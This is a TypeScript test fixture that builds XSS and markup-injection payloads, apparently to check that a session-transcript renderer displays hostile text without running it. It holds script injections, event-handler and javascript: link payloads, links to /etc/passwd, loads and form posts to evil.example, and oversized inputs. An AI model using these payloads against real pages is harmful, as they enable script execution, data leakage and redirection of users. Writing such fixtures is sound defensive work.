import type { Message } from '../../../src/session/schema.ts'
import { said } from '../../session/conversations.ts'

/** What a page must show and never obey. Whatever runs sets `owned`, and whatever is loaded asks `evil.example`. */
const OWN = 'globalThis.owned=1'
const EVIL = 'https://evil.example'

export const HOSTILE_TEXTS: Record<string, string> = {
  'a script': `<script>${OWN}</script><script src="${EVIL}/a.js"></script>`,
  'the end of our script': `</script><script>${OWN}</script>`,
  'the end of our style': `</style><style>*{display:none}</style><script>${OWN}</script>`,
  'the end of a comment': `--><script>${OWN}</script><!--`,
  'the end of a title': `</title><script>${OWN}</script>`,
  'the end of a block': `</code></pre></details></article></main><script>${OWN}</script>`,
  'the end of an attribute': `" onfocus="${OWN}" autofocus tabindex="0" x="`,
  'the end of another attribute': `' onmouseover='${OWN}' x='`,
  'an image with a handler': `<img src=x onerror="${OWN}">`,
  'an image of markdown': `![seen](${EVIL}/pixel.png)`,
  'an image with a data URI': `![x](data:image/svg+xml,%3Csvg%20onload=${OWN}%3E)`,
  'an SVG': `<svg xmlns="http://www.w3.org/2000/svg" onload="${OWN}"><script>${OWN}</script></svg>`,
  'a link to a script': `[click](javascript:${OWN}) <javascript:${OWN}> [a]: javascript:${OWN}`,
  'a link to a script, disguised': `[click](java&#115;cript:${OWN}) [b](\u0001javascript:${OWN}) [c](JaVaScRiPt:${OWN})`,
  'a link to data': `[click](data:text/html,<script>${OWN}</script>) [d](vbscript:x)`,
  'a link to a file': '[click](file:///etc/passwd) [e](../../../../etc/passwd) [f](//evil.example/x)',
  'a link that breaks out': `[click](https://a.example/"onmouseover="${OWN}) <https://a.example/'onclick='${OWN}>`,
  'a frame': `<iframe src="${EVIL}" srcdoc="<script>parent.owned=1</script>"></iframe>`,
  'an object': `<object data="${EVIL}/x.swf"></object><embed src="${EVIL}/y">`,
  'a base': `<base href="${EVIL}/">`,
  'a refresh': `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  'a form': `<form action="${EVIL}"><button autofocus>Go</button></form>`,
  'a style that loads': `<style>@import "${EVIL}/a.css"; body{background:url(${EVIL}/b.png)}</style>`,
  'a prefetch': `<link rel="stylesheet" href="${EVIL}/a.css"><link rel="prefetch" href="${EVIL}/c">`,
  'math that mutates': `<math><mtext><table><mglyph><style><img src=x onerror=${OWN}></style></table></math>`,
  'a template': `<template><script>${OWN}</script></template>{{constructor.constructor('${OWN}')()}}\${${OWN}}`,
  'a fence that ends early': `\`\`\`html" onclick="${OWN}\n<script>${OWN}</script>\n\`\`\`\n\`\`\`<img src=x onerror=${OWN}>\nx\n\`\`\``,
  'code of a language that is none': '```constructor\nx\n```\n```__proto__\ny\n```',
  'ids of the page': `<a id="search" name="status"></a> <h1 id="m-1">x</h1> [t](#search)`,
  'turned writing': 'safe \u202egnp.exe\u202c \u2066isolated\u2069 \u200fשלום \u061cمرحبا abc',
  'control characters': 'a\u0000b\u0007c\u001b[31mred\u001b]0;title\u0007\u009b2Jd\ud800e',
  'a huge line': `${'x'.repeat(300_000)}<script>${OWN}</script>`,
  'many brackets': `${'['.repeat(20_000)}${'*'.repeat(20_000)}${'> '.repeat(5000)}${'`'.repeat(9999)}`,
  'many links': `${'https://a.example/?'.repeat(4000)} ${'a@b.'.repeat(4000)}`,
  'many short links': `${'https://a.example/? '.repeat(1000)}${'www.a.example '.repeat(1000)}`,
  'deep nesting': `${'- '.repeat(3000)}x\n${'    '.repeat(3000)}y`,
}

/** A conversation that has a hostile text in every place that a record can hold one. */
export function hostileTalk(text: string): Message[] {
  const bound = text.slice(0, 2000)
  const talk = { client: 'claude', native_session: 's' }
  const all = [
    said('1', { content: text, author: bound, ...talk }),
    said('2', {
      role: 'assistant',
      content: [{ type: 'text', text }, { type: bound }],
      model: bound,
      reasoning: text,
      tool_calls: [
        { id: 'c', name: bound, arguments: { file_path: bound, old_string: text, new_string: `${text}!` } },
        { id: 'd', name: 'Bash', arguments: { command: text, [bound]: bound } },
        { id: 'e', name: 'Write', arguments: { file_path: `a.html`, content: text } },
        { id: 'f', name: 'apply_patch', arguments: { patch: `*** Update File: ${bound}\n+${text}` } },
        { id: 'g', name: 'other', arguments: bound },
      ],
      ...talk,
    }),
    said('3', { role: 'tool', content: text, tool_call_id: 'c', tool_name: bound, ...talk }),
    said('4', {
      role: 'tool',
      content: text,
      tool_call_id: 'none',
      tool_name: bound,
      is_error: true,
      ...talk,
    }),
    said('5', { role: 'system', content: text, ...talk }),
    ...['compacted', 'pruned', 'rewound', 'cleared', 'unknown', bound].map((event, place) =>
      said(`e${place}`, { role: 'system', event, content: bound, summary: text, client: bound }),
    ),
    said('6', {
      content: 'and',
      timestamp: bound,
      client: bound,
      attachments: [{ media_type: bound, sha256: bound, bytes: 1, name: bound }],
    }),
  ]
  return all
}
